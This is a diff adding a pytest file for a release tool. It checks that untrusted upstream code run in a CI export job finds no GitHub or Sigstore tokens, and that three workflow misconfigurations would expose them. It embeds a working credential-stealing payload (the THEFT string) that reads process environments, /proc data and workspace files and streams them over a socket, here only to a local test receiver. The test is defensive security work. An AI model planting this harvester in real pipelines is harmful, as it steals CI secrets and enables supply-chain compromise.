@@ -1,0 +1,152 @@
+"""Upstream's code looks for secrets in the export job, and finds none: the job has none."""
+
+import contextlib
+import socket
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field, replace
+
+import pytest
+
+from release_tool.rehearsal.upstream import MODULE
+from tests.conftest import write_recipe
+from tests.workflows.conftest import UPSTREAM, commit_upstream, pin
+
+EXPORT = "Export, and run every gate"
+# What a thief would try: its own environment, that of every ancestor, the files that tokens lie
+# in, and whatever else the job's directories hold; all of it is sent away.
+THEFT = '''
+import os, pathlib, socket
+
+def loot():
+    yield repr(dict(os.environ))
+    places, pid = [pathlib.Path.home()], os.getpid()
+    while pid > 1:
+        process = pathlib.Path("/proc", str(pid))
+        try:
+            variables = process.joinpath("environ").read_bytes().decode(errors="replace")
+            yield variables + process.joinpath("cmdline").read_text(errors="replace")
+            for text in variables.split("\\0"):
+                name, _, value = text.partition("=")
+                if name in ("HOME", "RUNNER_TEMP", "GITHUB_WORKSPACE"):
+                    places.append(pathlib.Path(value))
+            pid = int(process.joinpath("stat").read_text().rpartition(")")[2].split()[1])
+        except OSError:
+            break
+    for place in set(places):
+        for folder, names, files in os.walk(place):
+            names[:] = [name for name in names if name not in ("tool", "objects", "python")]
+            for name in files:
+                path = pathlib.Path(folder, name)
+                try:
+                    if path.stat().st_size < 100_000:
+                        yield f"{path}\\n{path.read_text(errors='replace')}"
+                except OSError:
+                    pass
+
+with socket.create_connection(("127.0.0.1", PORT), 10) as receiver:
+    for text in loot():
+        receiver.sendall(text.encode(errors="replace") + b"\\n\\n")
+'''
+
+
+@dataclass
+class Receiver:
+    """Where the thief sends what it finds."""
+
+    port: int
+    received: list[bytes] = field(default_factory=list)
+
+    @property
+    def text(self) -> str:
+        return b"".join(self.received).decode(errors="replace")
+
+
+@contextlib.contextmanager
+def open_receiver() -> Iterator[Receiver]:
+    """Listen until the block ends; every thief has hung up by then, for its job has ended."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    receiver = Receiver(listener.getsockname()[1])
+
+    def listen() -> None:
+        while True:
+            peer, _ = listener.accept()
+            with peer:
+                content = b"".join(iter(lambda: peer.recv(65536), b""))
+            if not content:
+                return
+            receiver.received.append(content)
+
+    thread = threading.Thread(target=listen, daemon=True)
+    thread.start()
+    try:
+        yield receiver
+    finally:
+        socket.create_connection(("127.0.0.1", receiver.port)).close()
+        thread.join(10)
+        listener.close()
+
+
+@pytest.fixture
+def robbed(project, tmp_path) -> Iterator[tuple]:
+    """The project with an upstream that steals, and where the loot goes."""
+    with open_receiver() as receiver:
+        module = THEFT.replace("PORT", str(receiver.port)) + MODULE
+        checkout, commit = commit_upstream(tmp_path / "thief", module)
+        recipe = pin(project.recipe, module, commit)
+        tree = project.services.sources.own_tree
+        file = tree / "thief.toml"
+        file.write_text(write_recipe(recipe))
+        stolen = project.with_sources(others={UPSTREAM: checkout})
+        yield replace(stolen, recipe=recipe), receiver
+        file.unlink()
+
+
+def secrets_of(project) -> list[str]:
+    """What a thief would like to have: GitHub's token, and what identity tokens are had with."""
+    sigstore = project.services.sigstore
+    variables = sigstore.actions_environment()
+    return [
+        project.services.github.token,
+        sigstore.issuer_service.bearer,
+        variables["ACTIONS_ID_TOKEN_REQUEST_URL"],
+    ]
+
+
+def test_upstream_code_finds_no_token_of_any_kind_in_the_export_job(robbed):
+    project, receiver = robbed
+    run = project.run(recipe="thief.toml").go(until="export")
+    assert run.jobs["export"].result == "success", run.jobs["export"].log
+    loot = receiver.text
+    for seen in ("GITHUB_WORKSPACE=", "RUNNER_TEMP=", "repositoryformatversion", "thief.toml"):
+        assert seen in loot, f"the thief did not even find {seen}"
+    for secret in secrets_of(project):
+        assert secret not in loot
+    for name in ("GH_TOKEN=", "GITHUB_TOKEN=", "ID_TOKEN_REQUEST", "SIGSTORE_ID_TOKEN="):
+        assert name not in loot
+
+
+def give_token_to_the_step(workflow) -> None:
+    for step in workflow["jobs"]["export"]["steps"]:
+        if step["name"] == EXPORT:
+            step["env"] = {"GH_TOKEN": "${{ github.token }}"}
+
+
+def keep_credentials(workflow) -> None:
+    for step in workflow["jobs"]["export"]["steps"]:
+        if "persist-credentials" in step.get("with", {}):
+            step["with"]["persist-credentials"] = True
+
+
+def give_an_identity(workflow) -> None:
+    workflow["jobs"]["export"]["permissions"]["id-token"] = "write"
+
+
+@pytest.mark.parametrize(
+    "mistake", [give_token_to_the_step, keep_credentials, give_an_identity], ids=lambda f: f.__name__
+)
+def test_the_thief_would_find_a_token_if_the_workflow_made_a_mistake(robbed, mistake):
+    project, receiver = robbed
+    run = project.run(mistake, recipe="thief.toml").go(until="export")
+    assert run.jobs["export"].result == "success", run.jobs["export"].log
+    assert any(secret in receiver.text for secret in secrets_of(project))
